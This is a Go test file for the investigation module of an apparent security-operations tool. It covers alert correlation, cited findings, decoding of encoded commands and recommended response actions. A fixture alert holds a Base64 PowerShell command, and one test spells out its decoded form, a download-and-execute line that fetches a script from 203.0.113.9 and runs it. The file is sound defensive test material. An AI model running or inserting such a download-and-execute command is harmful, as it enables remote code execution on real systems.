package investigate_test

import (
	"encoding/json"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/seed-959697dd/soc/alert"
	"github.com/seed-959697dd/soc/internal/check"
	"github.com/seed-959697dd/soc/investigate"
	"github.com/seed-959697dd/soc/respond"
	"github.com/seed-959697dd/soc/triage"
)

// dump is an alert of credential theft with an encoded command that fetches more.
const dump = `{"kind":"verdict","version":1,"id":"v-2b","route":"escalate","disposition":"true_positive","score":4000,"base":-2944,
 "group":{"count":1,"first_time":"2026-03-14T12:05:00Z","last_time":"2026-03-14T12:05:00Z","alert_ids":["a2"]},"severity":{"recommended":"critical","vendor":"15","score":100},
 "alert":{"id":"a2","vendor":"Wazuh","product":"Wazuh","title":"LSASS dumped.","time":"2026-03-14T12:05:00Z","techniques":["T1003.001"],"input":{"name":"alerts.json","line":2,"offset":900},
 "digest":"sha256:00","entities":[{"type":"host","role":"target","value":"ws-12.example.com","path":"host"},{"type":"host","role":"observer","value":"siem-1","path":"manager"},
 {"type":"user","role":"actor","value":"CORP\\alice","path":"user"},{"type":"process","role":"actor","value":"C:\\Temp\\x.exe","path":"image"},
 {"type":"process_command","role":"actor","value":"powershell -enc aQByAG0AIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOQAvAGEAIAB8ACAAaQBlAHgA","path":"cmd"}]},
 "signals":[{"check":"credentials","family":"credentials","weight":3000,"term":3000,"sentence":"a process is dumped","receipts":[{"path":"cmd","value":"dump"}]}],"gaps":[]}`

// caseOf makes one case of verdict documents.
func caseOf(t *testing.T, docs ...string) *investigate.Case {
	t.Helper()
	var list []investigate.Verdict
	byID := map[string]string{}
	for _, doc := range docs {
		v, err := investigate.ReadVerdict(doc)
		if err != nil {
			t.Fatal(err)
		}
		v.Case = "c-1a"
		list, byID[v.ID] = append(list, v), doc
	}
	list, clusters := investigate.Correlate(list)
	if len(clusters) != 1 {
		t.Fatalf("%d clusters", len(clusters))
	}
	var members []investigate.Member
	for _, at := range clusters[0].Members {
		members = append(members, investigate.Member{ID: list[at].ID, Document: byID[list[at].ID]})
	}
	k := investigate.NewCase(list, &clusters[0], members)
	return &k
}

func conclude(k *investigate.Case) {
	k.Decode(func(text string) (list []investigate.Script) {
		for _, h := range check.Reveal(text) {
			list = append(list, investigate.Script(h))
		}
		return list
	})
	k.Stand(nil)
	k.Conclude()
}

// told is the sentences of one part.
func told(k *investigate.Case, part investigate.Part) (list []string) {
	for _, f := range k.Findings {
		if f.Part == part {
			list = append(list, f.Sentence)
		}
	}
	return list
}

func TestFindings(t *testing.T) {
	t.Parallel()
	k := caseOf(t, intel, dump)
	k.Events = []investigate.Event{{
		Summary: "alice signed in from 198.51.100.7", Why: "the logon session of alert a2", Phase: "initial-access", Evidence: 500,
		Record: &alert.Alert{Time: time.Date(2026, 3, 14, 11, 58, 0, 0, time.UTC), Product: "Windows", Input: alert.Place{Name: "logs/security.json", Line: 7, Offset: 812}},
	}}
	k.Holes = []investigate.Hole{{Source: "logs/dns.json", From: time.Date(2026, 3, 14, 11, 0, 0, 0, time.UTC), To: time.Date(2026, 3, 14, 12, 0, 0, 0, time.UTC), Reason: "no data collected"}}
	k.Questions = []string{"did the file run? Process events of ws-12 would tell."}
	conclude(k)
	for part, want := range map[investigate.Part]string{
		investigate.Summary:    "4 alerts in 2 verdicts and 1 event from logs belong together, 2026-03-14 11:58:00 to 12:05:00 UTC, host ws-12.example.com, account CORP\\alice.",
		investigate.Rating:     "Severity is critical, the highest of the verdicts: Wazuh rates the alert 15, the evidence puts it at 100 of 100.",
		investigate.Story:      "At 2026-03-14 12:05:00 UTC on ws-12.example.com, account CORP\\alice: LSASS dumped (Wazuh).",
		investigate.Cause:      "It is initial access: the way in, as far as this case shows it.",
		investigate.Affected:   "Host ws-12.example.com stands in 1 record with evidence of an attack.",
		investigate.Techniques: "T1003.001 OS Credential Dumping: LSASS Memory (credential access), in 1 record.",
		investigate.Unseen:     "logs/dns.json says nothing from 2026-03-14 11:00:00 to 12:00:00 UTC: no data collected. That is no sign that nothing happened.",
	} {
		if got := told(k, part); !slices.Contains(got, want) {
			t.Errorf("%s: no %q in %q", part, want, got)
		}
	}
	if got := told(k, investigate.Story)[0]; !strings.Contains(got, "signed in from 198.51.100.7") {
		t.Errorf("the story does not begin with initial access: %q", got)
	}
	if strings.Contains(strings.Join(told(k, investigate.Affected), " "), "siem-1") {
		t.Error("who only watched is among the affected")
	}
	for _, f := range k.Findings {
		if len(f.Cites) == 0 {
			t.Errorf("%q cites nothing", f.Sentence)
		}
	}
}

// Things alike are told as one, by the strongest of them; the first line of a raw event's message says what it is about.
func TestStoryTellsThingsAlikeAsOne(t *testing.T) {
	t.Parallel()
	k := caseOf(t, strings.Replace(dump, "LSASS dumped.", "Process Create:", 1))
	for i, what := range []string{"cmd.exe started by cscript.exe: cmd /c a", "cmd.exe started by cscript.exe: cmd /c b", "x.exe wrote C:\\a", "x.exe wrote C:\\b", "x.exe opened lsass.exe", "x.exe opened cmd.exe"} {
		k.Events = append(k.Events, investigate.Event{
			Summary: what, Why: "it ran on ws-12", Phase: "execution", Evidence: int32(i % 2),
			Record: &alert.Alert{Time: time.Date(2026, 3, 14, 12, 6, i, 0, time.UTC), Product: "Windows"},
		})
	}
	conclude(k)
	got := strings.Join(told(k, investigate.Story), "\n")
	for _, want := range []string{
		"From 2026-03-14 12:06:00 to 12:06:01 UTC: cmd.exe started by cscript.exe: cmd /c b, and 1 more like it (Windows).", "x.exe wrote C:\\b, and 1 more like it", "x.exe opened lsass.exe (Windows).", "x.exe opened cmd.exe (Windows).",
		"Process Create: powershell -enc aQBy", "Why it is here: it ran on ws-12.",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in\n%s", want, got)
		}
	}
}

// What nothing shows is said to be not shown.
func TestCauseClaimsNoWayIn(t *testing.T) {
	t.Parallel()
	k := caseOf(t, dump)
	conclude(k)
	got := told(k, investigate.Cause)
	if len(got) != 2 || !strings.HasPrefix(got[1], "How it came to that is not shown") {
		t.Errorf("%q", got)
	}
}

// The script of an encoded command is an artifact, what it names an indicator with the piece that hid it as receipt.
func TestDecodedScripts(t *testing.T) {
	t.Parallel()
	k := caseOf(t, dump)
	conclude(k)
	if len(k.Artifacts) != 1 || string(k.Artifacts[0].Body) != "irm http://203.0.113.9/a | iex" || k.Artifacts[0].Bytes != 30 {
		t.Fatalf("%+v", k.Artifacts)
	}
	var got []string
	for _, n := range k.Indicators {
		got = append(got, n.Type+" "+n.Value+", "+n.Hidden)
		if r := n.Receipts[0]; r.Alert != "a2" || r.Path != "cmd" || !strings.Contains(dump, r.Value) {
			t.Errorf("%+v", r)
		}
	}
	if want := []string{"url http://203.0.113.9/a, encoded in Base64 as UTF-16", "ip 203.0.113.9, encoded in Base64 as UTF-16"}; !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
}

func TestCheckDropsWhatDoesNotResolve(t *testing.T) {
	t.Parallel()
	k := caseOf(t, intel, dump)
	conclude(k)
	for name, row := range map[string]struct {
		f    investigate.Finding
		keep bool
	}{
		"an alert":                 {investigate.Finding{Sentence: "LSASS was dumped.", Cites: []string{"alert a2"}}, true},
		"another alert of a group": {investigate.Finding{Sentence: "It was seen.", Cites: []string{"alert a1"}}, true},
		"no citation":              {investigate.Finding{Sentence: "LSASS was dumped."}, false},
		"no such alert":            {investigate.Finding{Sentence: "LSASS was dumped.", Cites: []string{"alert a9"}}, false},
		"one of two":               {investigate.Finding{Sentence: "LSASS was dumped.", Cites: []string{"alert a2", "event 1"}}, false},
		"number zero":              {investigate.Finding{Sentence: "Nothing failed.", Cites: []string{"gap 0"}}, false},
		"a gap":                    {investigate.Finding{Sentence: "No inventory.", Cites: []string{"gap 1"}}, true},
		"written otherwise":        {investigate.Finding{Sentence: "No inventory.", Cites: []string{"gap 01"}}, false},
		"no sentence":              {investigate.Finding{Sentence: " ", Cites: []string{"alert a2"}}, false},
		"a value of the case":      {investigate.Finding{Sentence: "It asked c2[.]example[.]com and fetched hxxp://203.0.113[.]9/a.", Cites: []string{"alert a1"}}, true},
		"an address made up":       {investigate.Finding{Sentence: "It asked 203.0.113.200.", Cites: []string{"alert a1"}}, false},
		"a name made up":           {investigate.Finding{Sentence: "It asked c3.example.net.", Cites: []string{"alert a1"}}, false},
	} {
		kept, dropped := investigate.Check([]investigate.Finding{row.f}, k)
		if len(kept) == 1 != row.keep || len(kept)+len(dropped) != 1 {
			t.Errorf("%s: kept %v, dropped %v", name, kept, dropped)
		}
	}
}

func TestAdvice(t *testing.T) {
	t.Parallel()
	advised := func(k *investigate.Case) (list []string) {
		for _, a := range k.Recommended {
			list = append(list, a.Action+" "+a.Target.Value)
			if len(a.Cites) == 0 || a.Why == "" || a.Risk == "" || a.Phase == "" {
				t.Errorf("%+v", a)
			}
			entry, known := respond.Catalogue()[a.Action]
			if !known || !slices.Contains(entry.Targets, respond.TargetType(a.Target.Type)) || entry.Phase.String() != a.Phase {
				t.Errorf("the catalogue has no %s of a %s for %s", a.Action, a.Target.Type, a.Phase)
			}
		}
		return list
	}
	k := caseOf(t, intel, dump)
	conclude(k)
	got := advised(k)
	for _, want := range []string{
		"block-domain c2.example.com", "block-ip 203.0.113.9", "block-url http://203.0.113.9/a", "isolate-host ws-12.example.com",
		`kill-process C:\Temp\x.exe`, `revoke-sessions CORP\alice`, `reset-credentials CORP\alice`,
	} {
		if !slices.Contains(got, want) {
			t.Errorf("no %s in %q", want, got)
		}
	}
	k = caseOf(t, strings.NewReplacer(`"T1003.001"`, `"T1486"`, `"entities":[`, `"indicators":[{"type":"sha256","value":"`+strings.Repeat("ab", 32)+`","path":"h"}],"entities":[
		{"type":"cloud","role":"actor","value":"AKIAEXAMPLEEXAMPLE01","path":"k"},{"type":"cloud","role":"actor","value":"ASIAEXAMPLEEXAMPLE01","path":"k"},
		{"type":"host","role":"target","value":"i-0abc12345def67890","path":"i"},{"type":"mail","role":"related","value":"<1@example.com>","path":"m"},
		{"type":"file","role":"target","value":"C:\\Users\\a\\x.exe","path":"f"},`, `"signals":[`, `"signals":[{"family":"malware","term":900,"sentence":"ransomware"},
		{"family":"persistence","term":900,"sentence":"a service"},{"family":"web","term":900,"sentence":"an injection"},{"family":"mail","term":900,"sentence":"a lure"},
		{"family":"reputation","weight":3000,"term":3000,"sentence":"known","receipts":[{"path":"h","value":"`+strings.Repeat("ab", 32)+`"}]},`).Replace(dump))
	conclude(k)
	got = advised(k)
	for _, want := range []string{
		"disable-access-key AKIAEXAMPLEEXAMPLE01", `revoke-sessions CORP\alice`, "snapshot-instance i-0abc12345def67890", "quarantine-mail <1@example.com>", `quarantine-file C:\Users\a\x.exe`,
		"block-hash " + strings.Repeat("ab", 32), `disable-account CORP\alice`, "remove-persistence ws-12.example.com", "patch ws-12.example.com", "rebuild ws-12.example.com", "restore-from-backup ws-12.example.com",
	} {
		if !slices.Contains(got, want) {
			t.Errorf("no %s in %q", want, got)
		}
	}
	k = caseOf(t, strings.ReplaceAll(dump, `"escalate"`, `"review"`))
	if conclude(k); len(k.Recommended) > 0 {
		t.Errorf("before a person decided: %q", advised(k))
	}
}

// Nothing of the estate's own, nothing private and nothing that a warning list knows is ever one to block, whatever else is said of it.
func TestAdviceBlocksNothingOfOurs(t *testing.T) {
	t.Parallel()
	for _, standing := range []investigate.Standing{investigate.Own, investigate.Listed} {
		k := caseOf(t, intel, dump)
		k.Stand(func(kind, value string) investigate.Standing {
			if investigate.HostOf(kind, value) == "c2.example.com" {
				return standing
			}
			return ""
		})
		k.Conclude()
		for _, a := range k.Recommended {
			if strings.Contains(a.Target.Value, "c2.example.com") {
				t.Errorf("%s: %+v", standing, a)
			}
		}
	}
	for _, private := range []string{"10.1.2.3", "192.168.1.1", "172.16.0.9", "169.254.1.1", "127.0.0.1", "100.64.3.4", "224.0.0.1", "fe80::1", "fd00::1", "::ffff:10.0.0.1", "0.0.0.0", "255.255.255.255"} {
		k := caseOf(t, strings.ReplaceAll(strings.ReplaceAll(intel, `"type":"domain"`, `"type":"ip"`), "c2.example.com", private))
		conclude(k)
		for _, a := range k.Recommended {
			if strings.HasPrefix(a.Action, "block") {
				t.Errorf("%s: %+v", private, a)
			}
		}
	}
}

// The target of somebody outside is likely one of ours: it is not one to block.
func TestAdviceSparesTheVictim(t *testing.T) {
	t.Parallel()
	inbound := strings.Replace(intel, `"entities":[`, `"entities":[{"type":"ip","role":"source","value":"203.0.113.50","path":"src"},`, 1)
	inbound = strings.Replace(inbound, `"reputation"`, `"web"`, 1)
	k := caseOf(t, inbound)
	conclude(k)
	for _, a := range k.Recommended {
		if a.Action == "block-domain" {
			t.Errorf("%+v", a)
		}
	}
}

// What follows from a case depends on nothing but the case.
func TestConcludeIsPure(t *testing.T) {
	t.Parallel()
	a, b := caseOf(t, intel, dump), caseOf(t, dump, intel)
	conclude(a)
	conclude(b)
	if !reflect.DeepEqual(a.Findings, b.Findings) || !reflect.DeepEqual(a.Recommended, b.Recommended) {
		t.Errorf("%+v\n%+v", a.Findings, b.Findings)
	}
	var doc struct {
		Findings []struct {
			Part, Sentence string
			Cites          []string
		}
		Recommended []struct {
			Action string
			Target struct{ Type, Value string }
		}
		Artifacts []struct{ Name, SHA256, From string }
	}
	if err := json.Unmarshal(a.AppendJSON(nil), &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Findings) != len(a.Findings) || len(doc.Recommended) != len(a.Recommended) || len(doc.Artifacts) != 1 || doc.Artifacts[0].SHA256 != fmt.Sprintf("%x", a.Artifacts[0].Digest[:]) {
		t.Errorf("%+v", doc)
	}
}

// A case that holds nothing to tell of concludes nothing and does not fail.
func TestConcludeOfNothing(t *testing.T) {
	t.Parallel()
	k := investigate.Case{Route: triage.Escalate}
	k.Conclude()
	if len(k.Findings)+len(k.Recommended) > 0 {
		t.Errorf("%+v", k)
	}
}

func TestHostOf(t *testing.T) {
	t.Parallel()
	for _, row := range [][3]string{
		{"url", "https://user:pw@C2.example.com:8443/a?b#c", "c2.example.com"},
		{"url", "http://[2001:db8::1]:80/", "2001:db8::1"},
		{"url", `http://c2.example.com\@good.example`, "c2.example.com"},
		{"mail", "a@b@Example.com", "example.com"},
		{"domain", "Example.com.", "example.com"},
		{"sha256", "00", ""},
	} {
		if got := investigate.HostOf(row[0], row[1]); got != row[2] {
			t.Errorf("%v: %s", row, got)
		}
	}
}

func TestTechniqueName(t *testing.T) {
	t.Parallel()
	for id, want := range map[string]string{"T1003.001": "OS Credential Dumping: LSASS Memory", "T1003.099": "OS Credential Dumping", "T1190": "Exploit Public-Facing Application", "T0000": ""} {
		if got := investigate.TechniqueName(id); got != want {
			t.Errorf("%s: %q", id, got)
		}
	}
	if got := investigate.TechniquePhase("T1003.001"); got != "credential-access" {
		t.Errorf("%q", got)
	}
}
